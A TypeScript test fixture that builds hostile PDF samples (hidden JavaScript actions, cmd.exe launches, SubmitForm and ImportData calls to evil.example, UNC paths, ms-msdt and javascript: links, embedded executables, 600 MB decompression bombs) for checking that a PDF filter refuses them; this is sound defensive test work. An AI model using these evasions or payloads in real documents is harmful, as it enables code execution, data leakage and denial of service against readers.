import { deflateSync } from 'node:zlib';
import { madePdf } from './made-files.ts';
import { packedPdf } from './packed-pdf.ts';

const lines = ['Amara Okafor'];
const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
const flate = '/Filter /FlateDecode';
const twoObjects = (at: number) => `/N 2 /First ${at}`;
const usual = (at: number) => `/Type /ObjStm ${twoObjects(at)} ${flate}`;
const opening = (text: string, ...more: readonly string[]) =>
  madePdf(lines, { catalog: '/OpenAction 6 0 R', objects: [text, ...more] });
const annotated = (text: string, ...more: readonly string[]) =>
  Buffer.from(
    madePdf(lines, { objects: [text, ...more] })
      .toString('latin1')
      .replace('/Contents 4 0 R', '/Annots[6 0 R] '),
    'latin1',
  );
const linked = (action: string, ...more: readonly string[]) =>
  annotated(`<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A ${action} >>`, ...more);
const inCatalog = (catalog: string, ...objects: readonly string[]) => madePdf(lines, { catalog, objects });
const toHex = (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`);
const streamOf = (entries: string, bytes: Buffer) =>
  `<< ${entries} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream`;
const file = '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>';

/** The same packed objects, counted from the first byte instead of the first object. */
function withoutFirst(packed: string): Buffer {
  const objects = packed.slice(packed.indexOf('<<'));
  const second = 12 + objects.indexOf('>>') + 2;
  return Buffer.from(`10 12 11 ${second} ${objects}`);
}

/** A file to whose end a newer revision was added, which has the action no more. */
function revised(): Buffer {
  const before = opening(script).toString('latin1');
  const at = before.length;
  const older = before.lastIndexOf('xref\n0');
  const newer = '6 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n';
  return Buffer.from(
    `${before}${newer}xref\n6 1\n${String(at).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 7 /Root 1 0 R /Prev ${older} >>\nstartxref\n${at + newer.length}\n%%EOF\n`,
    'latin1',
  );
}

/** PDFs with a program, by ways that a search of their bytes does not see. */
const programs: readonly (readonly [string, Buffer])[] = [
  ['a script in packed objects', packedPdf(script, { entries: usual })],
  [
    'a script in packed objects without a type',
    packedPdf(script, { entries: (at) => `${twoObjects(at)} ${flate}` }),
  ],
  [
    'a script in packed objects whose type is elsewhere',
    packedPdf(script, { entries: (at) => `/Type 12 0 R ${twoObjects(at)} ${flate}`, objects: ['/ObjStm'] }),
  ],
  [
    'a script in packed objects far from their type',
    packedPdf(script, { entries: usual, gap: `/X (${' '.repeat(6000)}) ` }),
  ],
  [
    'a script in objects that are not packed',
    packedPdf(script, { entries: twoObjects, pack: (bytes) => bytes }),
  ],
  [
    'a script packed twice',
    packedPdf(script, {
      entries: (at) => `${twoObjects(at)} /Filter [/ASCIIHexDecode /FlateDecode]`,
      pack: (bytes) => toHex(deflateSync(bytes)),
    }),
  ],
  [
    'a script packed by a filter that is elsewhere',
    packedPdf(script, { entries: (at) => `${twoObjects(at)} /Filter 12 0 R`, objects: ['/FlateDecode'] }),
  ],
  [
    'a script behind a name with escapes in packed objects',
    packedPdf('<< /#53 /J#61vaScript /#4aS (app.alert(1)) >>', { entries: usual }),
  ],
  ['a script in a revision that a newer one replaces', revised()],
  ['a script behind what is no key', linked('<< /S /GoTo /D [3 0 R /Fit] 1 << /S /JavaScript >> >>')],
  ['a script by a kind in brackets', opening('<< /S (JavaScript) /X (app.alert(1)) >>')],
  [
    'a script in packed objects that begin within their list',
    packedPdf(script, {
      entries: () => `/N 2 /First 0 ${flate}`,
      pack: (bytes) => deflateSync(withoutFirst(bytes.toString('latin1'))),
    }),
  ],
  [
    'a script in the bytes of a stream',
    opening(streamOf('', Buffer.from(`6 0 obj ${script} endobj`)), '<< >>'),
  ],
  ['a script by the second of two kinds', opening('<< /S /GoTo /S /JavaScript /JS (app.alert(1)) >>')],
  ['a script that follows a move', opening(`<< /S /GoTo /D [3 0 R /Fit] /Next ${script} >>`)],
  ['scripts by name', inCatalog('/Names << /JavaScript << /Names [(a) 6 0 R] >> >>', script)],
  ['a script when a page opens', linked('<< /S /GoTo /D [3 0 R /Fit] >> /AA << /PO << /S /JavaScript >> >>')],
  ['a launch by a kind that is elsewhere', linked('<< /S 7 0 R /F (cmd.exe) >>', '/Launch')],
  ['a web page that opens by itself', opening('<< /S /URI /URI (https://evil.example/seen) >>')],
  ['a web page that opens with a page', inCatalog('/AA << /WC << /S /URI /URI (https://evil.example) >> >>')],
  ['a form that is sent', linked('<< /S /SubmitForm /F (https://evil.example) >>')],
  ['data that is fetched', linked('<< /S /ImportData /F (\\\\\\\\evil.example\\\\a) >>')],
  ['a multimedia rendition', linked('<< /S /Rendition /R << /S /MR >> >>')],
  ['a film', annotated('<< /Type /Annot /Subtype /RichMedia /RichMediaContent 7 0 R >>', '<< >>')],
  ['an older film', annotated('<< /Type /Annot /Subtype /Movie /Movie << /F (a.avi) >> >>')],
  ['a scene in three dimensions', annotated('<< /Type /Annot /Subtype /3D /3DD 7 0 R >>', '<< >>')],
  ['a form with programs', packedPdf('<< /S /GoTo /AcroForm << /XFA [(a) 12 0 R] >> >>', { entries: usual })],
];

/** With another file inside. */
const carriers: readonly (readonly [string, Buffer])[] = [
  [
    'an attachment in packed objects far from their type',
    packedPdf('<< /S /GoTo /D [3 0 R /Fit] /X << /Type /Filespec /F (a) /EF << /F 12 0 R >> >> >>', {
      entries: usual,
      gap: `%${'x'.repeat(6000)}\n`,
      objects: [streamOf('/Type /EmbeddedFile', Buffer.from('MZ'))],
    }),
  ],
  ['another file in this one', linked('<< /S /GoToE /T << /R /C >> >>')],
  ['an attached file', annotated('<< /Type /Annot /Subtype /FileAttachment /FS 7 0 R >>', '<< >>')],
  ['an attached file by reference', inCatalog('/Names 6 0 R', '<< /EmbeddedFiles 7 0 R >>', file)],
  ['an associated file', inCatalog('/AF [6 0 R]', '<< /Type /Filespec /F (a.exe) >>')],
  ['a collection of files', inCatalog('/Collection << /View /T >>')],
];

/** With links to something other than a web page. */
const links: readonly (readonly [string, Buffer])[] = [
  ['a file on a network', linked('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>')],
  ['a file on a network, spelt in hexadecimal', linked('<< /S /GoToR /F <5C5C6576696C5C61> /D [0 /Fit] >>')],
  [
    'a file on a network by reference',
    linked('<< /S /GoToR /F 7 0 R /D [0 /Fit] >>', '(//evil.example/a.pdf)'),
  ],
  ['a link to a script', linked('<< /S /URI /URI (java\\\nscript:alert(1)) >>')],
  ['a link to a file', linked('<< /S /URI /URI (file://evil.example/a) >>')],
  ['a link to a program', linked('<< /S /URI /URI (ms-msdt:/id PCWDiagnostic) >>')],
];

/** Which readers read differently, or not at all. */
const riddles: readonly (readonly [string, Buffer])[] = [
  [
    'packed objects that begin in two places',
    Buffer.from(
      packedPdf(script, { entries: usual }).toString('latin1').replace('stream\n', 'stream \n'),
      'latin1',
    ),
  ],
  [
    'packed objects within packed objects',
    packedPdf('<< /N 1 /First 5 >> stream\n15 0 << /S /JavaScript >> endstream', { entries: usual }),
  ],
  ['packed objects without their number', packedPdf(script, { entries: (at) => `/First ${at} ${flate}` })],
  ['a stream whose bytes are in another file', opening(streamOf('/F (a.bin)', Buffer.from('x')))],
  [
    'packed objects that are cut short',
    packedPdf(script, { entries: usual, pack: (bytes) => deflateSync(bytes).subarray(0, -9) }),
  ],
];

/** PDFs that nobody may be served, with why they are refused. */
export const hostilePdfs = [
  ...programs.map(([what, bytes]) => ({ what, bytes, because: 'program' })),
  ...carriers.map(([what, bytes]) => ({ what, bytes, because: 'carries-file' })),
  ...links.map(([what, bytes]) => ({ what, bytes, because: 'elsewhere' })),
  ...riddles.map(([what, bytes]) => ({ what, bytes, because: 'broken' })),
];

const huge = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1_000_000, ' '));
const jpegOf = (side: number) =>
  Buffer.from([
    0xff,
    0xd8,
    0xff,
    0xc0,
    0,
    11,
    8,
    side >> 8,
    side & 255,
    side >> 8,
    side & 255,
    1,
    1,
    0x11,
    0,
    0xff,
    0xd9,
  ]);

/** Small PDFs that take a reader's time or memory. Made when they are needed, as it takes some time. */
export const pdfBombs: Readonly<Record<string, () => Buffer>> = {
  'a stream of 600 MB': () => opening(streamOf(flate, huge(600))),
  'a stream packed twice': () =>
    opening(streamOf('/Filter [/FlateDecode /FlateDecode]', deflateSync(huge(600)))),
  'many streams': () =>
    madePdf(lines, { objects: Array.from({ length: 12 }, () => streamOf(flate, huge(30))) }),
  'a picture of 600 MB': () => opening(streamOf(`/Subtype /Image ${flate}`, huge(600))),
  'a picture of 60,000 by 60,000': () =>
    opening(streamOf('/Subtype /Image /Filter /DCTDecode', jpegOf(60_000))),
  'a fax of 60,000 by 60,000': () =>
    opening(streamOf('/Subtype /Image /Width 60000 /Height 60000 /Filter /CCITTFaxDecode', Buffer.from('x'))),
  'objects within objects': () => opening('1 0 obj ['.repeat(400_000)),
};
